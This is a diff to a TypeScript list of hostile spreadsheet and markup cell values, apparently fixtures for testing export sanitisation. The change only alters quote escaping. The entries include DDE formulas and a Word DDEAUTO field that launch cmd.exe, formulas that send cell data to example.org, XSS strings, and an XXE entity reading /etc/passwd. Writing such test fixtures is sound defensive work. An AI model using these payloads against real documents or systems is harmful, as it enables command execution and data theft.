@@ -55,7 +55,7 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
   cell("formula", "a program by DDE, with plus", "+cmd|' /C calc'!A0"),
   cell("formula", "a program by DDE, with at", "@SUM(1+1)*cmd|' /C calc'!A0"),
   cell("formula", "a program by DDE, bare", "|cmd' /C calc'!A0"),
-  cell("formula", "a DDE of its own sort", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
+  cell("formula", "a DDE of its own sort", '=DDE("cmd";"/C calc";"!A0")'),
   cell("formula", "a link that tells", '=HYPERLINK("http://example.org/?x="&A1,"Minutes")'),
   cell("formula", "a call to the web", '=WEBSERVICE("http://example.org/?x="&ENCODEURL(A1))'),
   cell("formula", "an import of Google's", '=IMPORTXML(CONCAT("http://example.org/?x=",A1),"//a")'),
@@ -94,7 +94,7 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
 
   cell("markup", "a script", "<script>alert(1)</script>"),
   cell("markup", "a picture that runs", "<img src=x onerror=alert(1)>"),
-  cell("markup", "an end of attribute", "\" onmouseover=\"alert(1)"),
+  cell("markup", "an end of attribute", '" onmouseover="alert(1)'),
   cell("markup", "an end of attribute in apostrophes", "' onfocus='alert(1)"),
   cell("markup", "an end of all", "]]></t></si></sst><script>"),
   cell("markup", "character data", "<![CDATA[ =1+1 ]]>"),
@@ -103,8 +103,8 @@ export const HOSTILE_CELLS: readonly HostileCell[] = [
   cell("markup", "entities of a document type", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
   cell("markup", "an address that runs", "javascript:alert(1)"),
   cell("markup", "codes of Excel's for characters", "_x0041_ _x005F_x0041_ _x0000_"),
-  cell("markup", "a field of Word's", "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }"),
-  cell("markup", "codes of a page's foot", "&P &N &D &Z&F &G &\"Arial,Bold\"&26"),
+  cell("markup", "a field of Word's", '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }'),
+  cell("markup", "codes of a page's foot", '&P &N &D &Z&F &G &"Arial,Bold"&26'),
   cell("markup", "a template's hole", "${7*7} {{7*7}} %{7*7} <%= 7*7 %>"),
 
   cell("prototype", "__proto__", "__proto__"),
